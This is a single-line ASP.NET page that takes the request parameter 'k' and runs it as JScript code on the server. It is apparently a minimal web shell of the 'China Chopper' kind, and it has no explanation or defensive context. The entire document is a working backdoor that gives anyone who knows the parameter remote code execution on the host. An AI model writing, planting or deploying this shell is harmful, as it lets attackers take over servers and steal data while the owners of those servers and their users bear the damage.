<%@ Page Language="C#" %><% Microsoft.JScript.Eval.JScriptEvaluate(Request.Item["k"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine()); %>
